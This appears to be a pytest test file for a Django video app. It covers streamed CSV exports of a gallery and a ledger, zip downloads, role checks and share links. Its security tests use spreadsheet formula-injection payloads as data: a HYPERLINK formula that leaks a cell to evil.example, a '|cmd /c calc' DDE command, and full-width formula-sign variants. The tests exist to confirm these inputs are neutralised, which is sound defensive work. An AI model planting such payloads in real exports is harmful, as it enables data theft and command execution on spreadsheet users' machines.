"""Exports: the gallery (its filters applied) and the ledger as CSV for finance, safe to
open in a spreadsheet; videos as a zip that is streamed, not built in memory."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from django.core.files.storage import default_storage
from django.test import Client
from django.urls import reverse

from generations.models import ShareLink
from generations.services import exports
from generations.services.sharing import create_share
from tests.cast import add_credential
from tests.pipeline import make_job, mark_ready

pytestmark = pytest.mark.django_db

BIG = bytes(range(256)) * 4096 + b"tail"  # 1 MB and a bit: several blocks


def _csv(response) -> list[dict[str, str]]:  # type: ignore[no-untyped-def]
    assert response.streaming and response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")  # spreadsheets then read the Chinese as UTF-8
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def test_the_gallery_exports_what_its_filters_show(keyed) -> None:
    kite = mark_ready(make_job(keyed.team, "t2v_720p", prompt="一只风筝 a kite", seed=5))
    mark_ready(make_job(keyed.team, "t2v_1080p", prompt="a boat"))
    add_credential(keyed.other_team)
    mark_ready(make_job(keyed.other_team, "t2v_720p", prompt="their kite"))
    client = keyed.client("viewer")
    page = client.get(reverse("gallery", args=["team-a"]), {"mode": "t2v_720p"}).content.decode()
    assert "/t/team-a/gallery/export.csv?mode=t2v_720p" in page

    rows = _csv(client.get(reverse("gallery-csv", args=["team-a"]), {"mode": "t2v_720p"}))
    assert [row["id"] for row in rows] == [str(kite.pk)]
    (row,) = rows
    assert row["prompt"] == "一只风筝 a kite" and row["mode_name"] == "Text to video · 720P"
    assert (row["seed"], row["status"], row["member"]) == ("5", "ready", "")
    assert Decimal(row["charged_cny"]) == Decimal(row["estimated_cny"]) == kite.cost_cny
    assert Decimal(row["price_cny_per_second"]) == kite.price_cny_per_second
    everything = _csv(client.get(reverse("gallery-csv", args=["team-a"])))
    assert len(everything) == 2  # team B's video is not in it


@pytest.mark.security
def test_a_prompt_cannot_become_a_spreadsheet_formula(keyed) -> None:
    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    mark_ready(make_job(keyed.team, prompt=attack))
    make_job(keyed.team, prompt="-2+3")
    rows = _csv(keyed.client("viewer").get(reverse("gallery-csv", args=["team-a"])))
    assert sorted(row["prompt"] for row in rows) == sorted(["'" + attack, "'-2+3"])
    assert exports.safe_cell(Decimal("-1.50")) == Decimal("-1.50")  # numbers stay numbers


def test_the_ledger_export_is_for_admins_by_month(keyed) -> None:
    job = mark_ready(make_job(keyed.team, user=keyed.member))
    url = reverse("ledger-csv", args=["team-a"])
    assert keyed.client("member").get(url).status_code == 403
    admin = keyed.client("admin")
    team_page = admin.get(reverse("team-detail", args=["team-a"])).content.decode()
    assert 'data-testid="ledger-csv"' in team_page
    month = job.created_at.strftime("%Y-%m")
    rows = _csv(admin.get(url, {"month": month}))
    assert [(row["kind"], row["job"]) for row in rows] == [
        ("reserve", str(job.pk)),
        ("settle", str(job.pk)),
    ]
    assert rows[0]["member"] == "member" and Decimal(rows[1]["amount_cny"]) == job.cost_cny
    assert _csv(admin.get(url, {"month": "1999-01"})) == []
    refused = admin.get(url, {"month": "2026-13"}, follow=True)
    assert "Choose a month as YYYY-MM." in refused.content.decode()


def _zip(response) -> tuple[zipfile.ZipFile, list[bytes]]:  # type: ignore[no-untyped-def]
    assert response.streaming and response["Content-Type"] == "application/zip"
    chunks = list(response.streaming_content)
    return zipfile.ZipFile(io.BytesIO(b"".join(chunks))), chunks


def test_selected_videos_download_as_a_streamed_zip(keyed) -> None:
    first = mark_ready(make_job(keyed.team, prompt="first / one"), video=BIG)
    second = mark_ready(make_job(keyed.team, prompt="第二个"), video=b"small video")
    unpicked = mark_ready(make_job(keyed.team, prompt="not picked"))
    add_credential(keyed.other_team)
    theirs = mark_ready(make_job(keyed.other_team, prompt="theirs"))
    ids = f"{second.pk},{first.pk},{theirs.pk}"
    archive, chunks = _zip(
        keyed.client("viewer").get(reverse("gallery-zip", args=["team-a"]), {"ids": ids})
    )
    names = archive.namelist()
    assert names == [f"{second.pk}-第二个.mp4", f"{first.pk}-first-one.mp4", "videos.csv"]
    assert archive.read(names[1]) == BIG and archive.read(names[0]) == b"small video"
    assert archive.testzip() is None
    listed = list(csv.DictReader(io.StringIO(archive.read("videos.csv").decode().lstrip("\ufeff"))))
    assert [row["id"] for row in listed] == [str(second.pk), str(first.pk)]
    # Streamed: no piece is much bigger than one block read from storage.
    assert len(chunks) > 4 and max(len(chunk) for chunk in chunks) <= exports.CHUNK + 1024
    assert unpicked.pk not in {int(name.split("-")[0]) for name in names[:-1]}


def test_without_a_selection_the_zip_holds_what_the_filters_show(keyed) -> None:
    kite = mark_ready(make_job(keyed.team, "t2v_720p", prompt="kite"))
    mark_ready(make_job(keyed.team, "t2v_1080p", prompt="boat"))
    make_job(keyed.team, "t2v_720p", prompt="still queued")
    client = keyed.client("viewer")
    archive, _chunks = _zip(
        client.get(reverse("gallery-zip", args=["team-a"]), {"mode": "t2v_720p"})
    )
    assert archive.namelist() == [f"{kite.pk}-kite.mp4", "videos.csv"]
    nothing = client.get(reverse("gallery-zip", args=["team-a"]), {"ids": "999999"}, follow=True)
    assert "Choose at least one finished video to download." in nothing.content.decode()


def test_an_album_downloads_for_the_team_and_for_its_link(keyed) -> None:
    one = mark_ready(make_job(keyed.team, prompt="one"))
    two = mark_ready(make_job(keyed.team, prompt="two"))
    link = create_share(
        team=keyed.team,
        user=keyed.member,
        generation_ids=[two.pk, one.pk],
        title="",
        expires_at=None,
    )
    archive, _ = _zip(keyed.client("viewer").get(reverse("share-zip", args=["team-a", link.pk])))
    assert archive.namelist()[:2] == [f"{two.pk}-two.mp4", f"{one.pk}-one.mp4"]
    public_page = Client().get(reverse("public-share", args=[link.key])).content.decode()
    assert reverse("public-share-zip", args=[link.key]) in public_page
    archive, _ = _zip(Client().get(reverse("public-share-zip", args=[link.key])))
    with default_storage.open(one.video.name) as handle:
        assert archive.read(f"{one.pk}-one.mp4") == handle.read()
    ShareLink.objects.filter(pk=link.pk).update(revoked_at=link.created_at)
    assert Client().get(reverse("public-share-zip", args=[link.key])).status_code == 410


@pytest.mark.security
@pytest.mark.parametrize(
    "attack",
    ["|cmd /c calc!A1", "＝HYPERLINK(\"http://evil.example\")", "＋1+1", "－2+3", "＠SUM(A1)",
     " =1+1", "｜calc"],
)  # fmt: skip
def test_pipes_and_full_width_formula_signs_are_neutralised_too(keyed, attack) -> None:
    make_job(keyed.team, prompt=attack)
    (row,) = _csv(keyed.client("viewer").get(reverse("gallery-csv", args=["team-a"])))
    assert row["prompt"] == "'" + attack
